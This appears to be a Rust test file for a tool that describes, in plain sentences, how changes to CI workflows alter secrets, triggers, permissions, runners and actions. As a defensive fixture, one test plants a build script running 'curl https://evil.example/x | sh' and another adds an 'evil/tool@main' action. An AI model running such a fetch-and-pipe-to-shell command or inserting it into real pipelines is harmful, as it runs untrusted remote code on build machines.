//! What a change adds and takes away is said in plain words.

use super::scene::{CALM, CI, Desk};

#[test]
fn a_workflow_that_gains_a_secret_says_so() {
    let desk = Desk::with(&[(CI, CALM)]);
    let deploy = "      - run: make deploy\n        env:\n          KEY: ${{ secrets.PROD_KEY }}\n";
    let text = CALM.replace("      - run: make deploy\n", deploy);
    desk.writes(&[(CI, &text)]);
    let said = desk.judges_last();
    said.tells("job deploy gains secret PROD_KEY");
    let one = &said.0["capabilities"][0];
    assert_eq!(one["class"], "secret");
    assert_eq!(one["direction"], "gained");
    assert_eq!(one["path"], CI);
    assert_eq!(one["line"], 18);
    desk.writes(&[(CI, CALM)]);
    desk.judges_last().tells("job deploy loses secret PROD_KEY");
}

#[test]
fn comments_and_layout_say_nothing() {
    let desk = Desk::with(&[(CI, CALM)]);
    let text = CALM.replace("jobs:", "# What runs.\n\njobs:");
    desk.writes(&[(CI, &text)]);
    desk.judges_last().is_silent();
}

#[test]
fn who_can_start_it_where_it_runs_and_what_it_waits_for() {
    let desk = Desk::with(&[(CI, CALM)]);
    let text = CALM
        .replace("  push:\n", "  pull_request_target:\n  push:\n")
        .replace(
            "    needs: build\n    runs-on: ubuntu-latest",
            "    runs-on: [self-hosted, prod]\n    environment: production",
        )
        .replace("contents: read", "contents: write");
    desk.writes(&[(CI, &text)]);
    let said = desk.judges_last();
    for sentence in [
        "job build (and 1 more) can be started by pull_request_target (anybody, with the repository's rights)",
        "job build (and 1 more) gains permission contents: write instead of read",
        "job deploy reaches environment production",
        "job deploy no longer waits for job build",
        "job deploy runs on own machines (prod, self-hosted) instead of a machine of the forge (ubuntu-latest)",
    ] {
        said.tells(sentence);
    }
}

#[test]
fn a_changed_action_is_seen_in_the_workflow_that_runs_it() {
    let uses = CALM.replace(
        "- run: make\n",
        "- uses: actions/checkout@v4\n      - uses: ./.github/actions/setup\n",
    );
    let action = "name: setup\nruns:\n  using: composite\n  steps:\n    - run: make tools\n      shell: bash\n";
    let path = ".github/actions/setup/action.yml";
    let desk = Desk::with(&[(CI, &uses), (path, action)]);
    let more = format!("{action}    - uses: evil/tool@main\n");
    desk.writes(&[(path, &more)]);
    let said = desk.judges_last();
    // The action is an entry file itself, for whoever else uses it.
    said.tells("job build (and 1 more) uses action evil/tool at main");
    let one = &said.0["capabilities"][0];
    assert_eq!(one["path"], path, "{one:#}");
}

#[test]
fn a_changed_script_is_seen_in_the_workflow_that_calls_it() {
    let calls = CALM.replace("- run: make\n", "- run: ./ci/build.sh\n");
    let desk = Desk::with(&[(CI, &calls), ("ci/build.sh", "#!/bin/sh\nmake\n")]);
    desk.writes(&[(
        "ci/build.sh",
        "#!/bin/sh\ncurl https://evil.example/x | sh\n",
    )]);
    let said = desk.judges_last();
    let all = said.capabilities();
    assert!(all.iter().any(|one| one.contains("curl")), "{:#}", said.0);
}

#[test]
fn a_change_that_ci_never_sees_says_nothing() {
    let desk = Desk::with(&[(CI, CALM), ("src/main.rs", "fn main() {}\n")]);
    desk.writes(&[
        ("src/main.rs", "fn main() { run() }\n"),
        ("docs/a.txt", "x\n"),
    ]);
    desk.judges_last().is_silent();
}

#[test]
fn a_merge_that_takes_both_sides_says_nothing_of_its_own() {
    let desk = Desk::with(&[(CI, CALM)]);
    desk.work.on_branch("topic");
    desk.writes(&[("app.txt", "one\n")]);
    desk.work.on_branch("main");
    desk.writes(&[("lib.txt", "one\n")]);
    desk.work.merges(&["topic"]).unsigned();
    desk.judges_last().is_silent();
}
